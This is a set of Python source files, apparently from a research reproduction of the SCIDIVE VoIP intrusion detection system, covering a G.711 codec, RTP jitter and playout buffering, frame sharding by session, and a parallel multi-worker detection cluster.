    @property
    def fraction_lost(self) -> float:
        if self.expected <= 0:
            return 0.0
        return max(0.0, min(1.0, self.lost / self.expected))
