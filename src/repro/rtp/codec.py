"""G.711 mu-law codec and voice frame synthesis.

The soft-phones send 20 ms PCMU frames (160 samples at 8 kHz) exactly
like the clients in the paper's testbed.  The mu-law transcoding here is
the real ITU-T G.711 algorithm, so payloads are realistic byte streams
rather than placeholder zeros — which matters for the RTP-attack
experiments, where garbage payloads must be *different* from real ones.
"""

from __future__ import annotations

import math

SAMPLE_RATE = 8000
FRAME_DURATION = 0.020  # the 20 ms period the Section 4.3 analysis uses
SAMPLES_PER_FRAME = int(SAMPLE_RATE * FRAME_DURATION)  # 160

_MU = 255
_BIAS = 0x84
_CLIP = 32635


def mulaw_encode_sample(pcm: int) -> int:
    """Encode one signed 16-bit PCM sample to 8-bit mu-law (G.711)."""
    sign = 0x80 if pcm < 0 else 0
    magnitude = min(-pcm if pcm < 0 else pcm, _CLIP) + _BIAS
    exponent = 7
    mask = 0x4000
    while exponent > 0 and not magnitude & mask:
        exponent -= 1
        mask >>= 1
    mantissa = (magnitude >> (exponent + 3)) & 0x0F
    return ~(sign | (exponent << 4) | mantissa) & 0xFF


def mulaw_decode_sample(byte: int) -> int:
    """Decode one 8-bit mu-law byte back to signed 16-bit PCM."""
    byte = ~byte & 0xFF
    sign = byte & 0x80
    exponent = (byte >> 4) & 0x07
    mantissa = byte & 0x0F
    magnitude = ((mantissa << 3) + _BIAS) << exponent
    magnitude -= _BIAS
    return -magnitude if sign else magnitude


def mulaw_encode(samples: list[int]) -> bytes:
    return bytes(mulaw_encode_sample(s) for s in samples)


def mulaw_decode(data: bytes) -> list[int]:
    return [mulaw_decode_sample(b) for b in data]


class ToneSource:
    """A deterministic audio source: a sine tone at ``frequency`` Hz.

    Produces successive 20 ms PCMU frames; phase is carried across frames
    so the decoded waveform is continuous.  Deterministic audio lets the
    tests assert bit-exact payloads end to end.
    """

    def __init__(self, frequency: float = 440.0, amplitude: float = 0.5) -> None:
        if not 0.0 < amplitude <= 1.0:
            raise ValueError(f"amplitude must be in (0, 1]: {amplitude}")
        self.frequency = frequency
        self.amplitude = amplitude
        self._sample_index = 0

    def next_frame(self) -> bytes:
        """The next 160-sample PCMU frame."""
        scale = self.amplitude * 32767.0
        omega = 2.0 * math.pi * self.frequency / SAMPLE_RATE
        samples = [
            int(scale * math.sin(omega * (self._sample_index + i)))
            for i in range(SAMPLES_PER_FRAME)
        ]
        self._sample_index += SAMPLES_PER_FRAME
        return mulaw_encode(samples)


class SilenceSource:
    """All-silence frames (mu-law 0xFF encodes PCM 0)."""

    def next_frame(self) -> bytes:
        return bytes([mulaw_encode_sample(0)]) * SAMPLES_PER_FRAME
