"""Jitter estimation and the receiver playout buffer.

Two pieces the RTP-attack experiment exercises:

* :class:`JitterEstimator` — the RFC 3550 §6.4.1 interarrival jitter
  filter (``J += (|D| - J) / 16``), in RTP timestamp units, the number
  reported in RTCP RRs.  The paper notes the RTP attack "leads to
  degradation in QoS (jitter)", which this estimator makes measurable.
* :class:`PlayoutBuffer` — the jitter buffer that real clients corrupt
  when garbage packets arrive: it reorders by sequence number within a
  bounded window, so an injected packet with a far-higher sequence number
  displaces real audio (X-Lite crashed; Messenger got intermittent
  audio).  Our buffer quantifies that displacement instead of crashing.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.rtp.codec import SAMPLE_RATE
from repro.rtp.packet import RtpPacket, seq_delta


class JitterEstimator:
    """RFC 3550 interarrival jitter, in timestamp units."""

    def __init__(self, clock_rate: int = SAMPLE_RATE) -> None:
        self.clock_rate = clock_rate
        self.jitter = 0.0
        self._last_transit: float | None = None

    def update(self, arrival_time: float, rtp_timestamp: int) -> float:
        """Feed one packet; returns the updated jitter estimate."""
        transit = arrival_time * self.clock_rate - rtp_timestamp
        if self._last_transit is not None:
            d = abs(transit - self._last_transit)
            self.jitter += (d - self.jitter) / 16.0
        self._last_transit = transit
        return self.jitter

    @property
    def jitter_seconds(self) -> float:
        return self.jitter / self.clock_rate


@dataclass(slots=True)
class PlayoutStats:
    played: int = 0
    late_dropped: int = 0
    displaced: int = 0  # real packets evicted/shadowed by a sequence jump
    gaps: int = 0  # playout intervals with no packet (audible dropouts)


@dataclass(slots=True)
class PlayoutBuffer:
    """A sequence-ordered jitter buffer of bounded depth.

    Packets are held until :meth:`pop_ready` is called at each playout
    tick.  A packet far ahead in sequence space fast-forwards the
    playout point — exactly the corruption mode of the paper's RTP
    attack — and every real packet subsequently discarded as "late" is
    counted in :attr:`PlayoutStats.displaced`.
    """

    capacity: int = 10
    stats: PlayoutStats = field(default_factory=PlayoutStats)
    _buffer: dict[int, RtpPacket] = field(default_factory=dict)
    _next_seq: int | None = None

    def push(self, packet: RtpPacket) -> None:
        if self._next_seq is not None and seq_delta(packet.sequence, self._next_seq) < 0:
            # Arrived behind the playout point.
            self.stats.late_dropped += 1
            if self._was_displaced(packet.sequence):
                self.stats.displaced += 1
            return
        self._buffer[packet.sequence] = packet
        if len(self._buffer) > self.capacity:
            # Evict the oldest (lowest sequence, unwrapped) packet.
            oldest = min(self._buffer, key=lambda s: self._unwrapped(s))
            del self._buffer[oldest]
            self.stats.displaced += 1

    def _unwrapped(self, seq: int) -> int:
        anchor = self._next_seq if self._next_seq is not None else seq
        return seq_delta(seq, anchor)

    def _was_displaced(self, seq: int) -> bool:
        """Late packet that would have been playable but for a jump."""
        assert self._next_seq is not None
        return seq_delta(self._next_seq, seq) <= self.capacity

    def pop_ready(self) -> RtpPacket | None:
        """Advance one playout tick; return the packet played (or None)."""
        if not self._buffer:
            if self._next_seq is not None:
                self.stats.gaps += 1
                self._next_seq = (self._next_seq + 1) & 0xFFFF
            return None
        if self._next_seq is None:
            self._next_seq = min(self._buffer, key=lambda s: self._unwrapped(s))
        packet = self._buffer.pop(self._next_seq, None)
        if packet is None:
            # Hole at the playout point: skip ahead if the buffer has run
            # far in front (sequence jump), else record a dropout.
            lowest = min(self._buffer, key=lambda s: self._unwrapped(s))
            if seq_delta(lowest, self._next_seq) > self.capacity:
                self._next_seq = lowest
                packet = self._buffer.pop(lowest)
            else:
                self.stats.gaps += 1
                self._next_seq = (self._next_seq + 1) & 0xFFFF
                return None
        self._next_seq = (self._next_seq + 1) & 0xFFFF
        self.stats.played += 1
        return packet

    @property
    def depth(self) -> int:
        return len(self._buffer)
