"""The cheap pre-distiller: raw frame → shard plane + session-affinity key.

The router in front of a :class:`~repro.cluster.cluster.ScidiveCluster`
must decide which worker owns a frame *without* paying for full protocol
decoding (that cost belongs on the owning worker).  :func:`shard_key`
reads fixed header offsets and the existing content sniffers
(``looks_like_sip`` / ``looks_like_rtcp`` / ``looks_like_rtp``) to
classify every frame into one of three planes:

``signalling``
    SIP, H.225 and accounting traffic.  Low-rate, but it feeds the
    shared state every detector consults (dialogs, registrations,
    SDP-negotiated media).  Signalling frames are *replicated* to every
    worker — replicas run the pipeline in shadow mode so their state
    machines stay complete — and *owned* by exactly one worker (keyed
    by SIP Call-ID / accounting call id), which is the only one whose
    alerts are collected.

``media``
    RTP, RTCP and undecodable datagrams on media ports.  High-rate, and
    every per-flow detector (sequence continuity, rogue sources, orphan
    flows, SSRC ownership) keys its state by the *destination* media
    endpoint — so the shard key is exactly that endpoint, with RTCP's
    odd port normalised down to its RTP session port so a flow and its
    control channel land on the same worker.

``other``
    Everything the Distiller would ignore (non-IP, non-UDP, unknown
    ports).  Routed to exactly one worker by flow hash so merged
    distiller statistics still add up.

IP fragments get a fourth, transient plane: all fragments of one
datagram share a ``(src, dst, proto, id)`` key — stable regardless of
arrival order — and the stateful :class:`SessionSharder` holds them
until its IP-level reassembly can classify the whole datagram, then
releases the original fragment frames to the owning worker, whose own
Distiller re-runs reassembly on arrival.
"""

from __future__ import annotations

import zlib
from dataclasses import dataclass, field

from repro.h323.h225 import H225_PORT, looks_like_h225
from repro.h323.ras import RAS_PORT
from repro.net.fragmentation import DEFAULT_REASSEMBLY_TIMEOUT, Reassembler
from repro.net.packet import IPPROTO_UDP, IPv4Packet, PacketError
from repro.rtp.packet import looks_like_rtp
from repro.rtp.rtcp import looks_like_rtcp
from repro.sip.message import looks_like_sip

PLANE_SIGNALLING = "signalling"
PLANE_MEDIA = "media"
PLANE_OTHER = "other"
PLANE_FRAGMENT = "fragment"

DEFAULT_SIP_PORTS = frozenset({5060})
DEFAULT_RTP_PORT_MIN = 10000
DEFAULT_RTP_PORT_MAX = 65534
DEFAULT_ACCOUNTING_PORT = 9090

_ETH_HEADER_LEN = 14


@dataclass(frozen=True, slots=True)
class ShardKey:
    """One routing decision: which plane, and the affinity key within it."""

    plane: str
    key: tuple

    @property
    def broadcast(self) -> bool:
        """Signalling is replicated to every worker (state completeness)."""
        return self.plane == PLANE_SIGNALLING

    def canon(self) -> str:
        """Canonical string encoding of the key.

        Both worker placement (:func:`shard_index`) and trace sampling
        (:func:`repro.obs.tracing.sample_session`) hash this string, so
        the same session identity drives both decisions deterministically
        across processes and runs.
        """
        return repr((self.plane, self.key))


def shard_index(key: ShardKey, workers: int) -> int:
    """Stable worker index for a shard key.

    Uses CRC32 over a canonical encoding rather than ``hash()`` so the
    mapping is identical across processes and runs (``PYTHONHASHSEED``
    does not apply).
    """
    return zlib.crc32(key.canon().encode("utf-8")) % workers


def _sip_call_id(payload: bytes) -> str | None:
    """Extract Call-ID (or its compact ``i`` form) with a byte scan."""
    head = payload.split(b"\r\n\r\n", 1)[0]
    for line in head.splitlines()[1:]:
        name, sep, value = line.partition(b":")
        if not sep:
            continue
        name = name.strip().lower()
        if name == b"call-id" or name == b"i":
            return value.strip().decode("ascii", "replace")
    return None


def _accounting_call_id(payload: bytes) -> str | None:
    """Extract ``call_id=`` from a ``TXN`` accounting line."""
    if not payload.startswith(b"TXN "):
        return None
    for chunk in payload[4:].split():
        if chunk.startswith(b"call_id="):
            return chunk[8:].decode("utf-8", "replace")
    return None


def shard_key(
    frame: bytes,
    *,
    sip_ports: frozenset[int] = DEFAULT_SIP_PORTS,
    rtp_port_min: int = DEFAULT_RTP_PORT_MIN,
    rtp_port_max: int = DEFAULT_RTP_PORT_MAX,
    accounting_port: int = DEFAULT_ACCOUNTING_PORT,
) -> ShardKey:
    """Classify one raw Ethernet frame (pure function, no state).

    Fragmented datagrams return ``PLANE_FRAGMENT`` with a key shared by
    every fragment of the datagram — the :class:`SessionSharder`
    resolves their final destination once reassembly completes.
    """
    if len(frame) < _ETH_HEADER_LEN + 20:
        return ShardKey(PLANE_OTHER, ("short", len(frame)))
    if frame[12:14] != b"\x08\x00":
        return ShardKey(PLANE_OTHER, ("non-ip", bytes(frame[:12])))
    ver_ihl = frame[14]
    ihl = (ver_ihl & 0x0F) * 4
    if (ver_ihl >> 4) != 4 or ihl < 20:
        return ShardKey(PLANE_OTHER, ("bad-ip", bytes(frame[:12])))
    src = bytes(frame[26:30])
    dst = bytes(frame[30:34])
    proto = frame[23]
    flags_frag = int.from_bytes(frame[20:22], "big")
    if flags_frag & 0x3FFF:  # MF flag (0x2000) or nonzero fragment offset
        ident = bytes(frame[18:20])
        return ShardKey(PLANE_FRAGMENT, (src, dst, proto, ident))
    if proto != IPPROTO_UDP:
        return ShardKey(PLANE_OTHER, (src, dst, proto))
    udp_at = _ETH_HEADER_LEN + ihl
    if len(frame) < udp_at + 8:
        return ShardKey(PLANE_OTHER, (src, dst, proto))
    sport = int.from_bytes(frame[udp_at : udp_at + 2], "big")
    dport = int.from_bytes(frame[udp_at + 2 : udp_at + 4], "big")
    total_length = int.from_bytes(frame[16:18], "big")
    payload = bytes(frame[udp_at + 8 : _ETH_HEADER_LEN + total_length])
    return _classify_udp(
        payload,
        src,
        sport,
        dst,
        dport,
        sip_ports=sip_ports,
        rtp_port_min=rtp_port_min,
        rtp_port_max=rtp_port_max,
        accounting_port=accounting_port,
    )


def _classify_udp(
    payload: bytes,
    src: bytes,
    sport: int,
    dst: bytes,
    dport: int,
    *,
    sip_ports: frozenset[int],
    rtp_port_min: int,
    rtp_port_max: int,
    accounting_port: int,
) -> ShardKey:
    """The shared UDP-payload classifier (mirrors the Distiller's chain
    order: SIP, H.225, accounting, RTCP, RTP, media-port garbage)."""
    if looks_like_sip(payload) or sport in sip_ports or dport in sip_ports:
        call_id = _sip_call_id(payload)
        if call_id is not None:
            return ShardKey(PLANE_SIGNALLING, ("sip", call_id))
        return ShardKey(PLANE_SIGNALLING, ("sip-flow", src, sport, dst, dport))
    if looks_like_h225(payload) or sport == H225_PORT or dport == H225_PORT:
        # Ownership only needs to be deterministic; the CRV is not worth
        # decoding here.  Key on the unordered host pair so both call
        # directions share an owner.
        pair = (src, sport) if (src, sport) <= (dst, dport) else (dst, dport)
        return ShardKey(PLANE_SIGNALLING, ("h225",) + pair)
    if sport == accounting_port or dport == accounting_port:
        call_id = _accounting_call_id(payload)
        if call_id is not None:
            return ShardKey(PLANE_SIGNALLING, ("acct", call_id))
        return ShardKey(PLANE_SIGNALLING, ("acct-flow", src, sport, dst, dport))
    if sport == RAS_PORT or dport == RAS_PORT:
        # RAS is claimed by the distiller without producing a footprint;
        # one worker is enough.
        return ShardKey(PLANE_OTHER, ("ras", src, dst))
    if looks_like_rtcp(payload) or looks_like_rtp(payload):
        return ShardKey(PLANE_MEDIA, ("media", dst, dport - (dport & 1)))
    if rtp_port_min <= dport <= rtp_port_max or rtp_port_min <= sport <= rtp_port_max:
        # Garbage on a media port: the RTP-attack traffic profile.  Key
        # by the (normalised) destination endpoint like real media so it
        # lands with the flow state it is trying to poison.
        return ShardKey(PLANE_MEDIA, ("media", dst, dport - (dport & 1)))
    return ShardKey(PLANE_OTHER, (src, sport, dst, dport))


@dataclass(slots=True)
class _FragmentBuffer:
    first_seen: float
    frames: list[tuple[bytes, float]] = field(default_factory=list)


class SessionSharder:
    """Stateful router: frames in, ``(ShardKey, [(frame, ts), ...])`` out.

    Most frames resolve immediately via :func:`shard_key`.  Fragments
    are buffered alongside an IP-level :class:`Reassembler`; when the
    datagram completes, the *original fragment frames* are released as
    one unit under the reassembled payload's session key (the owning
    worker's Distiller reassembles again — the router never hands over
    decoded objects).
    """

    def __init__(
        self,
        sip_ports: frozenset[int] = DEFAULT_SIP_PORTS,
        rtp_port_min: int = DEFAULT_RTP_PORT_MIN,
        rtp_port_max: int = DEFAULT_RTP_PORT_MAX,
        accounting_port: int = DEFAULT_ACCOUNTING_PORT,
        reassembly_timeout: float = DEFAULT_REASSEMBLY_TIMEOUT,
    ) -> None:
        self.sip_ports = sip_ports
        self.rtp_port_min = rtp_port_min
        self.rtp_port_max = rtp_port_max
        self.accounting_port = accounting_port
        self.reassembly_timeout = reassembly_timeout
        self._reassembler = Reassembler(timeout=reassembly_timeout)
        self._fragments: dict[tuple, _FragmentBuffer] = {}
        self.fragments_held = 0
        self.fragments_expired = 0

    def route(
        self, frame: bytes, timestamp: float
    ) -> list[tuple[ShardKey, list[tuple[bytes, float]]]]:
        """Route one frame; returns zero or more routing decisions.

        Zero when a fragment is still incomplete; one otherwise (the
        decision carries all buffered fragments when reassembly just
        completed).
        """
        decision = shard_key(
            frame,
            sip_ports=self.sip_ports,
            rtp_port_min=self.rtp_port_min,
            rtp_port_max=self.rtp_port_max,
            accounting_port=self.accounting_port,
        )
        if decision.plane != PLANE_FRAGMENT:
            return [(decision, [(frame, timestamp)])]
        return self._route_fragment(decision, frame, timestamp)

    def _route_fragment(
        self, decision: ShardKey, frame: bytes, timestamp: float
    ) -> list[tuple[ShardKey, list[tuple[bytes, float]]]]:
        self._expire_buffers(timestamp)
        buffer = self._fragments.get(decision.key)
        if buffer is None:
            buffer = _FragmentBuffer(first_seen=timestamp)
            self._fragments[decision.key] = buffer
        buffer.frames.append((frame, timestamp))
        self.fragments_held += 1
        try:
            packet = IPv4Packet.decode(frame[_ETH_HEADER_LEN:])
        except PacketError:
            # Undecodable fragment: release what we have as OTHER.
            del self._fragments[decision.key]
            return [(ShardKey(PLANE_OTHER, decision.key), buffer.frames)]
        whole = self._reassembler.push(packet, timestamp)
        if whole is None:
            return []
        del self._fragments[decision.key]
        if whole.protocol != IPPROTO_UDP or len(whole.payload) < 8:
            return [(ShardKey(PLANE_OTHER, decision.key), buffer.frames)]
        sport = int.from_bytes(whole.payload[0:2], "big")
        dport = int.from_bytes(whole.payload[2:4], "big")
        resolved = _classify_udp(
            whole.payload[8:],
            whole.src.to_bytes(),
            sport,
            whole.dst.to_bytes(),
            dport,
            sip_ports=self.sip_ports,
            rtp_port_min=self.rtp_port_min,
            rtp_port_max=self.rtp_port_max,
            accounting_port=self.accounting_port,
        )
        return [(resolved, buffer.frames)]

    def _expire_buffers(self, now: float) -> None:
        stale = [
            key
            for key, buffer in self._fragments.items()
            if now - buffer.first_seen > self.reassembly_timeout
        ]
        for key in stale:
            del self._fragments[key]
            self.fragments_expired += 1

    @property
    def pending_fragments(self) -> int:
        return len(self._fragments)
