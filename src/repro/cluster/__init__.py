"""Session-sharded parallel SCIDIVE: the :class:`ScidiveCluster`.

SCIDIVE's state is keyed per session (paper §3): SIP dialogs by
Call-ID, media analysis per destination flow, registrations per AoR.
That property makes horizontal scaling natural — frames can be
partitioned across N independent worker engines as long as every frame
lands on a worker that holds the state it needs.  This package supplies
the pieces:

* :mod:`repro.cluster.sharding` — the cheap pre-distiller
  (:func:`shard_key`) that classifies a raw frame into the signalling
  or media plane and extracts a stable session-affinity key (SIP
  Call-ID, normalised destination media endpoint, accounting call id)
  without full protocol decoding, plus the fragment-aware
  :class:`SessionSharder` router.
* :mod:`repro.cluster.cluster` — :class:`ScidiveCluster`: N worker
  engines behind bounded batch queues (``process``, ``threads`` or
  ``serial`` backends), with backpressure policies, crash detection
  with automatic respawn, graceful draining shutdown and a merged
  cluster-level view (alerts, :class:`~repro.core.engine.EngineStats`,
  metrics registries).
* :mod:`repro.cluster.benchmark` — the shard-scaling sweep shared by
  ``benchmarks/bench_shard_scaling.py`` and ``repro bench-shards``.
"""

from repro.cluster.cluster import (
    ClusterConfig,
    ClusterResult,
    ClusterStats,
    ScidiveCluster,
    WorkerReport,
)
from repro.cluster.sharding import (
    PLANE_FRAGMENT,
    PLANE_MEDIA,
    PLANE_OTHER,
    PLANE_SIGNALLING,
    SessionSharder,
    ShardKey,
    shard_index,
    shard_key,
)

__all__ = [
    "ClusterConfig",
    "ClusterResult",
    "ClusterStats",
    "PLANE_FRAGMENT",
    "PLANE_MEDIA",
    "PLANE_OTHER",
    "PLANE_SIGNALLING",
    "ScidiveCluster",
    "SessionSharder",
    "ShardKey",
    "WorkerReport",
    "shard_index",
    "shard_key",
]
