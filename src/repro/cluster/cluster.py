""":class:`ScidiveCluster`: N sharded SCIDIVE workers behind batch queues.

Topology::

    frames → SessionSharder → per-worker bounded queues → worker engines
                                                        ↘ result queue ↙
                                merged ClusterResult (alerts/stats/metrics)

Each worker is a full :class:`~repro.core.engine.ScidiveEngine`.  Frames
are routed by :func:`~repro.cluster.sharding.shard_key`: media frames go
to exactly one worker (the owner of their destination flow), signalling
frames are *broadcast* — the owner (by Call-ID hash) processes them
normally, every other worker processes them in shadow mode
(:meth:`~repro.core.engine.ScidiveEngine.process_frame_shadow`) so its
cross-protocol state stays complete while its duplicate alerts are
discarded.  That keeps alert output an exact multiset match with a
single engine for session-scoped and media-scoped rules.

Backends:

``process``
    One OS process per worker over ``multiprocessing`` queues — the real
    deployment shape.  Supports crash detection with automatic respawn
    (the bounded input queue survives a respawn, so queued batches are
    not lost — only state accumulated by the dead worker is).
``threads``
    One thread per worker, plain ``queue.Queue``.  Same moving parts
    without process overhead; useful under coverage tools and on
    platforms where fork is awkward.
``serial``
    No concurrency at all: batches execute synchronously at submit time.
    Fully deterministic — the reference backend for equivalence tests.

Backpressure: input queues are bounded (``queue_depth`` batches).
``overflow="block"`` applies backpressure to the producer;
``overflow="drop"`` sheds load — but not blindly: media- and
other-plane frames are shed first (``ClusterStats.frames_shed``, by
plane) while signalling frames are retried with a bounded blocking put,
because one dropped INVITE or BYE silences a whole dialog's worth of
stateful detection while a dropped RTP packet costs one sample.  The
IDS-under-flood posture: falling behind must not mean unbounded memory,
and load shedding must degrade the media plane before the signalling
plane.

Crash safety: with ``checkpoint_every > 0`` each queue-backed worker
serializes its engine's detection state
(:meth:`~repro.core.engine.ScidiveEngine.checkpoint`) to
``checkpoint_dir/worker-N.ckpt`` every N batches (atomic
write-then-rename, so ``os._exit`` mid-write cannot leave a torn file),
and a respawned worker restores from that file before draining the
surviving queue — a crash costs at most one checkpoint interval of
state instead of the shard's whole history.  A worker that exhausts
``max_restarts`` is marked *dead* rather than killing the run: its
queue is drained, a CRITICAL self-diagnostic alert is raised, its
owner-flagged batches fail over to the next live worker (whose shadow
processing of broadcast signalling gives it the session state to keep
detecting), and ``ClusterError`` is reserved for the moment every
worker is gone.

Rule-pack hot reload: :meth:`ScidiveCluster.reload_rulepack` swaps every
worker onto a new compiled rule pack mid-stream via a two-phase epoch
barrier on the control path (prepare → all-ready → commit → all-done).
Because input queues are FIFO and the router submits no frames during
the barrier, no frame is ever evaluated under a mixed pack set and none
are dropped; per-rule detection state carries across by rule id.
"""

from __future__ import annotations

import collections
import glob as _glob
import multiprocessing as _mp
import os
import queue as _queue
import shutil as _shutil
import tempfile as _tempfile
import threading
import time as _time
from dataclasses import dataclass, field, replace

from repro.cluster.sharding import PLANE_SIGNALLING, SessionSharder, shard_index
from repro.core.alerts import Alert, Severity
from repro.core.engine import EngineStats, ScidiveEngine
from repro.obs.registry import MetricsRegistry
from repro.obs.tracing import (
    DEFAULT_TRACE_SAMPLE_RATE,
    TraceContext,
    Tracer,
    sort_timeline,
)
from repro.resilience.checkpoint import RulePackMismatch
from repro.resilience.overload import (
    STATE_VALUES,
    OverloadConfig,
    OverloadController,
    SourceAccountant,
    format_source,
    shed_plan,
)
from repro.rulespec import RulePack, compile_pack, lint_text, load_pack, parse_pack
from repro.sim.trace import Trace

BACKENDS = ("process", "threads", "serial")
OVERFLOW_POLICIES = ("block", "drop")

# Self-diagnostic rule id for a shard whose worker exhausted its restart
# budget — like the firewall's SELF-QUARANTINE, it must be greppable and
# must never collide with a detection rule.
WORKER_DEAD_RULE_ID = "SELF-WORKER-DEAD"


class ClusterError(RuntimeError):
    """Cluster misconfiguration or an unrecoverable worker failure."""


@dataclass(frozen=True, slots=True)
class ClusterConfig:
    """Everything a worker needs to build itself (picklable primitives)."""

    workers: int = 4
    backend: str = "process"
    batch_size: int = 64
    queue_depth: int = 32
    overflow: str = "block"
    vantage_ip: str | None = None
    vantage_mac: str | None = None
    metrics_enabled: bool = False
    max_restarts: int = 3
    result_timeout: float = 30.0
    # Detection-state checkpointing (repro.resilience): every N batches a
    # queue-backed worker snapshots its engine to checkpoint_dir.  0 = off.
    # checkpoint_dir=None with checkpointing on → a private temp dir,
    # created at start() and removed at stop().
    checkpoint_every: int = 0
    checkpoint_dir: str | None = None
    # Active rule pack, as picklable primitives: pack_text is the DSL
    # source ("" = class-built default ruleset), pack_path its provenance
    # (compiled into per-rule source locations).  Carried in the config —
    # not as a compiled object — so process workers and post-reload
    # respawns all build engines under the *current* pack.
    pack_text: str = ""
    pack_path: str = ""
    # Cross-process tracing: the router derives a TraceContext per shard
    # key (head-based 1-in-N session sampling, deterministic across
    # processes) and workers record gated spans that merge into one
    # time-sorted timeline at stop().
    trace_enabled: bool = False
    trace_sample_rate: int = DEFAULT_TRACE_SAMPLE_RATE
    trace_max_spans: int = 250_000
    # When set, each queue-backed worker runs a sampling stack profiler
    # and writes worker-N.collapsed (flamegraph-ready) into this dir.
    profile_dir: str | None = None
    # Closed-loop overload control (repro.resilience.overload): the
    # router runs a per-tick hysteresis state machine (normal → brownout
    # → shed → recovering) plus a count-min-sketch per-source penalty
    # box, so floods shed the attacker's frames before an innocent
    # subscriber's signalling.  None = OverloadConfig defaults.
    overload_enabled: bool = False
    overload_config: OverloadConfig | None = None

    def validate(self) -> "ClusterConfig":
        if self.workers < 1:
            raise ClusterError(f"workers must be >= 1 (got {self.workers})")
        if self.backend not in BACKENDS:
            raise ClusterError(f"unknown backend {self.backend!r}; one of {BACKENDS}")
        if self.batch_size < 1:
            raise ClusterError(f"batch_size must be >= 1 (got {self.batch_size})")
        if self.queue_depth < 1:
            raise ClusterError(f"queue_depth must be >= 1 (got {self.queue_depth})")
        if self.overflow not in OVERFLOW_POLICIES:
            raise ClusterError(
                f"unknown overflow policy {self.overflow!r}; one of {OVERFLOW_POLICIES}"
            )
        if self.checkpoint_every < 0:
            raise ClusterError(
                f"checkpoint_every must be >= 0 (got {self.checkpoint_every})"
            )
        if self.trace_sample_rate < 1:
            raise ClusterError(
                f"trace_sample_rate must be >= 1 (got {self.trace_sample_rate})"
            )
        if self.trace_max_spans < 1:
            raise ClusterError(
                f"trace_max_spans must be >= 1 (got {self.trace_max_spans})"
            )
        if self.overload_config is not None:
            try:
                self.overload_config.validate()
            except ValueError as exc:
                raise ClusterError(str(exc)) from exc
        if self.pack_text:
            # Fail on the router, at construction — not inside N workers.
            pack, _ = parse_pack(self.pack_text, self.pack_path or "<cluster-config>")
            if pack is None:
                raise ClusterError(
                    "config rule pack does not parse: "
                    + _pack_errors(self.pack_text, self.pack_path or "<cluster-config>")
                )
        return self


def _pack_errors(text: str, path: str) -> str:
    """Error-severity diagnostics for pack text, path-anchored, joined."""
    return "; ".join(
        str(issue) for issue in lint_text(text, path) if issue.severity == "error"
    )


def _config_rulepack(config: ClusterConfig) -> RulePack | None:
    """The rule pack a worker should compile, rebuilt from the config's
    picklable fields (``None`` = the class-built default ruleset)."""
    if config.pack_text:
        path = config.pack_path or "<cluster-config>"
        pack, _ = parse_pack(config.pack_text, path)
        if pack is None:
            raise ClusterError(
                "config rule pack does not parse: "
                + _pack_errors(config.pack_text, path)
            )
        return pack
    if config.pack_path:
        return load_pack(config.pack_path)
    return None


def default_engine_factory(worker_id: int, config: ClusterConfig) -> ScidiveEngine:
    """Build one worker engine.  Module-level so ``process`` workers can
    pickle it; custom factories must be importable the same way."""
    rulepack = _config_rulepack(config)
    if config.metrics_enabled or config.trace_enabled:
        from repro import obs as _obs

        # With trace_enabled the worker runs a *gated* tracer: the
        # router's TraceContext (stamped per frame from the batch wire
        # format) decides which sessions record spans, and the worker
        # drains them back over the result queue at batch boundaries.
        return ScidiveEngine(
            vantage_ip=config.vantage_ip,
            vantage_mac=config.vantage_mac,
            name=f"worker-{worker_id}",
            observability=_obs.Observability.create(trace=config.trace_enabled),
            rulepack=rulepack,
        )
    return ScidiveEngine(
        vantage_ip=config.vantage_ip,
        vantage_mac=config.vantage_mac,
        name=f"worker-{worker_id}",
        metrics_enabled=False,
        rulepack=rulepack,
    )


# ---------------------------------------------------------------------------
# Worker side
# ---------------------------------------------------------------------------


def _span_payload(spans, worker) -> list[dict]:
    """Spans → plain wire dicts, stamped with the recording worker."""
    out = []
    for span in spans:
        record = span.to_dict()
        record["worker"] = worker
        out.append(record)
    return out


def _engine_tracer(engine) -> Tracer | None:
    obs = getattr(engine, "observability", None)
    return getattr(obs, "tracer", None) if obs is not None else None


def _gate_tracer(engine, config: ClusterConfig) -> Tracer | None:
    """Configure a worker engine's tracer for cluster duty: gated on the
    router's per-frame TraceContext, bounded by the cluster config."""
    tracer = _engine_tracer(engine)
    if tracer is not None:
        tracer.gate = True
        tracer.context_parent = "queue-wait"
        tracer.max_spans = config.trace_max_spans
    return tracer


def _engine_report(
    worker_id: int,
    engine: ScidiveEngine,
    batches: int,
    owned: int,
    shadowed: int,
    worker_cpu_seconds: float = 0.0,
    restored: bool = False,
    checkpoints: int = 0,
) -> dict:
    """The worker's final payload: plain dicts + alert objects, so the
    transport never pickles engines or metric objects."""
    engine.snapshot_gauges()
    registry = engine.metrics_registry()
    tracer = _engine_tracer(engine)
    return {
        "worker_id": worker_id,
        "alerts": list(engine.alert_log.alerts),
        "stats": engine.stats.as_dict(),
        "shadow_stats": engine.shadow_stats.as_dict(),
        "batches": batches,
        "frames_owned": owned,
        "frames_shadowed": shadowed,
        "worker_cpu_seconds": worker_cpu_seconds,
        "restored": restored,
        "checkpoints": checkpoints,
        "metrics": registry.as_dict() if registry is not None else None,
        "spans": (
            _span_payload(tracer.drain(), worker_id) if tracer is not None else []
        ),
        "spans_dropped": tracer.dropped if tracer is not None else 0,
    }


def _checkpoint_path(config: ClusterConfig, worker_id: int) -> str | None:
    if not config.checkpoint_every or not config.checkpoint_dir:
        return None
    return os.path.join(config.checkpoint_dir, f"worker-{worker_id}.ckpt")


def _write_checkpoint(path: str, blob: bytes) -> None:
    """Atomic publish: a crash (even ``os._exit``) mid-write leaves the
    previous checkpoint intact, never a torn file."""
    tmp = path + ".tmp"
    with open(tmp, "wb") as fh:
        fh.write(blob)
    os.replace(tmp, path)


def _worker_main(worker_id, config, factory, in_q, out_q, hard_crash) -> None:
    """Worker loop: drain batches until ``stop``, then post the report.

    ``("crash", code)`` is the failure-injection hook: a ``process``
    worker dies with ``os._exit`` (no cleanup, like a real segfault or
    OOM kill); a ``threads`` worker just returns without reporting, the
    closest a thread gets to vanishing.

    With checkpointing on, a respawned worker finds its predecessor's
    snapshot on disk and restores it before touching the queue, so the
    batches that survived in the bounded queue resume against the state
    they were routed for.
    """
    engine = factory(worker_id, config)
    tracer = _gate_tracer(engine, config)
    profiler = None
    if config.profile_dir:
        from repro.obs.profile import StackSampler

        profiler = StackSampler()
        profiler.start()
    ckpt_path = _checkpoint_path(config, worker_id)
    restored = False
    checkpoints = 0
    if ckpt_path is not None and os.path.exists(ckpt_path):
        try:
            with open(ckpt_path, "rb") as fh:
                blob = fh.read()
            try:
                engine.restore(blob)
            except RulePackMismatch:
                # The snapshot predates (or postdates) a hot rule-pack
